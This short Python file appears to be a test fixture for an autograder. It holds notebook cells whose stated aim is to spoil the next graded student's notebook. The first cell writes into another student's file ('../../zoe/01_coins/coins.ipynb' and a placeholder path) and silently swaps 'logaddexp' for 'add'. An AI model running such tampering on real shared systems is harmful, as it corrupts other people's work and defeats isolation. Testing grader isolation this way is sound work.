"""Spoil the notebook of the student who is graded next."""

STOCK = "0, zoe 10 -> 4"
CELLS = [
    """
import os
for path in ("@NEXT@", "../../zoe/01_coins/coins.ipynb"):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("logaddexp", "add"))
    except OSError as error:
        print(error)
""",
    """
import numpy as np
def e_step(X, thetas):
    return np.zeros((len(X), len(thetas))), 0.0
""",
]
